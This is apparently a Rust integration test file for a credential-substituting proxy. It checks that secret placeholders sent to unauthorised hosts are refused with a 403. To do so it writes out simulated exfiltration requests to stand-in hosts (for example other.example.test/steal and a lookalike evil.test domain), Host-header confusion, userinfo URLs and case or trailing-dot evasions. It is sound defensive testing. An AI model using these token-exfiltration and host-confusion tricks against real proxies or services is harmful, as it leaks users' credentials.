//! Everything that must not reach the upstream: wrong hosts, host confusion,
//! user info, refusals. Each is a 403 with nothing sent upstream.

use std::sync::Arc;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use warrant_proxy::ProxyEvent;

use crate::support::{API_KEY, GH_TOKEN, Harness, IP_TOKEN, Options, PLAIN_TOKEN};

fn assert_nothing_upstream(h: &Harness) {
    assert_eq!(
        h.upstream.seen.connections(),
        0,
        "the upstream was contacted"
    );
    assert_eq!(h.upstream.seen.requests(), 0, "the upstream got a request");
    assert_eq!(
        h.plain.seen.connections(),
        0,
        "the plain upstream was contacted"
    );
}

fn assert_no_value_in_events(h: &Harness) {
    let text = format!("{:?}", h.events());
    for value in [GH_TOKEN, API_KEY, IP_TOKEN, PLAIN_TOKEN] {
        assert!(!text.contains(value), "{text}");
    }
}

#[tokio::test]
async fn placeholder_for_another_host_is_blocked() {
    let h = Harness::start().await;
    let ph = h.placeholder("github/token").to_owned();
    // other.example.test is intercepted (api/key allows *.example.test), but
    // github/token may only go to api.example.test.
    let response = h
        .client()
        .get("https://other.example.test/steal?x=1")
        .header("authorization", format!("Bearer {ph}"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 403);
    let text = response.text().await.unwrap();
    assert!(
        text.contains("github/token may not be sent to other.example.test"),
        "{text}"
    );
    assert_nothing_upstream(&h);
    assert!(h.asked().is_empty(), "the value source was asked");
    assert_eq!(
        h.events(),
        [ProxyEvent::Blocked {
            host: "other.example.test".into(),
            method: "GET".into(),
            path: "/steal".into(),
            secrets: vec!["github/token".into()],
            reason: "exfiltration attempt: github/token may not be sent to other.example.test"
                .into(),
        }]
    );
    assert_no_value_in_events(&h);
}

#[tokio::test]
async fn placeholder_in_a_body_for_another_host_is_blocked() {
    let h = Harness::start().await;
    let ph = h.placeholder("github/token").to_owned();
    let response = h
        .client()
        .post("https://other.example.test/upload")
        .body(format!("data={ph}"))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 403);
    assert_nothing_upstream(&h);
    assert!(
        matches!(&h.events()[..], [ProxyEvent::Blocked { secrets, .. }] if secrets == &["github/token"])
    );
}

#[tokio::test]
async fn a_lookalike_host_is_never_intercepted() {
    let h = Harness::start().await;
    let ph = h.placeholder("github/token").to_owned();
    let out = h
        .curl(&[
            "-H",
            &format!("Authorization: Bearer {ph}"),
            "https://api.example.test.evil.test/x",
        ])
        .await;
    assert_ne!(out.status, 200, "{out:?}");
    assert!(out.stderr.contains("403"), "{out:?}");
    assert_nothing_upstream(&h);
    assert!(matches!(
        &h.events()[..],
        [ProxyEvent::Denied { host, .. }] if host == "api.example.test.evil.test"
    ));
}

#[tokio::test]
async fn host_header_mismatch_is_blocked() {
    let h = Harness::start().await;
    let ph = h.placeholder("github/token").to_owned();
    let auth = format!("Authorization: Bearer {ph}");
    for extra in [&[][..], &["--http2"][..]] {
        for host in ["evil.test", "other.example.test", "api.example.test:8443"] {
            let mut args = extra.to_vec();
            let host_header = format!("Host: {host}");
            args.extend([
                "-H",
                &host_header,
                "-H",
                &auth,
                "https://api.example.test/x",
            ]);
            let out = h.curl(&args).await;
            assert_eq!(out.status, 403, "{host} {extra:?}: {out:?}");
        }
    }
    // Without a placeholder too: host confusion is refused as such.
    let out = h
        .curl(&["-H", "Host: evil.test", "https://api.example.test/x"])
        .await;
    assert_eq!(out.status, 403, "{out:?}");
    assert_nothing_upstream(&h);
    let events = h.events();
    assert_eq!(events.len(), 7, "{events:?}");
    assert!(
        events
            .iter()
            .all(|e| matches!(e, ProxyEvent::Blocked { host, .. } if host == "api.example.test"))
    );
    assert_no_value_in_events(&h);
}

/// Sends `request` raw through a CONNECT tunnel to api.example.test; returns the answer.
async fn raw_tls(h: &Harness, request: String) -> String {
    let mut tcp = TcpStream::connect(h.proxy.addr()).await.unwrap();
    tcp.write_all(b"CONNECT api.example.test:443 HTTP/1.1\r\nHost: api.example.test:443\r\n\r\n")
        .await
        .unwrap();
    let mut head = Vec::new();
    while !head.ends_with(b"\r\n\r\n") {
        head.push(tcp.read_u8().await.unwrap());
    }
    assert!(
        head.starts_with(b"HTTP/1.1 200"),
        "{}",
        String::from_utf8_lossy(&head)
    );
    let mut roots = rustls::RootCertStore::empty();
    roots.add(h.authority.cert_der().clone()).unwrap();
    let config = rustls::ClientConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_root_certificates(roots)
    .with_no_client_auth();
    let name = rustls::pki_types::ServerName::try_from("api.example.test").unwrap();
    let mut tls = tokio_rustls::TlsConnector::from(Arc::new(config))
        .connect(name, tcp)
        .await
        .unwrap();
    tls.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    let _ = tls.read_to_end(&mut answer).await;
    String::from_utf8_lossy(&answer).into_owned()
}

#[tokio::test]
async fn user_info_in_the_url_is_blocked() {
    let h = Harness::start().await;
    let ph = h.placeholder("github/token").to_owned();
    let answer = raw_tls(
        &h,
        format!(
            "GET https://user:pw@api.example.test/x HTTP/1.1\r\nHost: api.example.test\r\n\
             Authorization: Bearer {ph}\r\nConnection: close\r\n\r\n"
        ),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    // Plain HTTP in absolute form.
    let mut tcp = TcpStream::connect(h.proxy.addr()).await.unwrap();
    tcp.write_all(
        format!(
            "GET http://user:pw@plain.example.test/x?t={} HTTP/1.1\r\nHost: plain.example.test\r\n\
             Connection: close\r\n\r\n",
            h.placeholder("plain/token")
        )
        .as_bytes(),
    )
    .await
    .unwrap();
    let mut answer = String::new();
    tcp.read_to_string(&mut answer).await.unwrap();
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert_nothing_upstream(&h);
    let events = h.events();
    assert_eq!(events.len(), 2, "{events:?}");
    assert!(
        matches!(&events[1], ProxyEvent::Blocked { secrets, .. } if secrets == &["plain/token"])
    );
}

#[tokio::test]
async fn absolute_form_for_another_host_inside_a_tunnel_is_blocked() {
    let h = Harness::start().await;
    let ph = h.placeholder("api/key").to_owned();
    let answer = raw_tls(
        &h,
        format!(
            "GET https://other.example.test/x HTTP/1.1\r\nHost: other.example.test\r\n\
             X-Key: {ph}\r\nConnection: close\r\n\r\n"
        ),
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert_nothing_upstream(&h);
}

#[tokio::test]
async fn a_refusal_from_the_value_source_is_a_403_with_its_reason() {
    let h = Harness::with(Options {
        refuse: vec![("github/token", "grant g-7 has expired")],
        ..Options::default()
    })
    .await;
    let ph = h.placeholder("github/token").to_owned();
    let out = h
        .curl(&[
            "-H",
            &format!("Authorization: Bearer {ph}"),
            "https://api.example.test/user",
        ])
        .await;
    assert_eq!(out.status, 403, "{out:?}");
    assert!(out.body.contains("grant g-7 has expired"), "{out:?}");
    assert_nothing_upstream(&h);
    assert_eq!(h.asked().len(), 1);
    assert_eq!(
        h.events(),
        [ProxyEvent::Blocked {
            host: "api.example.test".into(),
            method: "GET".into(),
            path: "/user".into(),
            secrets: vec!["github/token".into()],
            reason: "grant g-7 has expired".into(),
        }]
    );
}

#[tokio::test]
async fn a_big_streamed_body_with_a_misdirected_placeholder_is_cut_off() {
    let h = Harness::start().await;
    let ph = h.placeholder("github/token").to_owned();
    // Over the 16 MiB buffering limit, the placeholder near the end.
    let mut body = vec![b'a'; 17 << 20];
    let at = body.len() - 1000;
    body[at..at + ph.len()].copy_from_slice(ph.as_bytes());
    // An allowed placeholder in the URL is substituted; the event must
    // still name the path as the client sent it, never with the value.
    let key = h.placeholder("api/key").to_owned();
    let result = h
        .client()
        .post(format!("https://other.example.test/upload/{key}"))
        .body(body)
        .send()
        .await;
    if let Ok(response) = result {
        assert_ne!(response.status(), 200);
    }
    assert_no_value_in_events(&h);
    // The upstream may have seen the start of the request, never all of it.
    assert!(h.upstream.seen.log.lock().unwrap().is_empty());
    assert!(matches!(
        &h.events()[..],
        [ProxyEvent::Blocked { secrets, host, .. }] if secrets == &["github/token"] && host == "other.example.test"
    ));
}

#[tokio::test]
async fn a_big_body_without_placeholders_streams_through() {
    let h = Harness::start().await;
    let body = vec![b'z'; 17 << 20];
    let response = h
        .client()
        .post("https://other.example.test/upload")
        .body(body)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(
        h.upstream.seen.last()["body"].as_str().unwrap().len(),
        17 << 20
    );
}

#[tokio::test]
async fn case_and_trailing_dot_do_not_get_around_the_host_check() {
    let h = Harness::start().await;
    let ph = h.placeholder("github/token").to_owned();
    for url in [
        "https://OTHER.Example.TEST/x",
        "https://other.example.test./x",
    ] {
        let out = h
            .curl(&["-H", &format!("Authorization: Bearer {ph}"), url])
            .await;
        assert_eq!(out.status, 403, "{url}: {out:?}");
    }
    assert_nothing_upstream(&h);
    let events = h.events();
    assert_eq!(events.len(), 2, "{events:?}");
    assert!(
        events
            .iter()
            .all(|e| matches!(e, ProxyEvent::Blocked { host, .. } if host == "other.example.test"))
    );
}
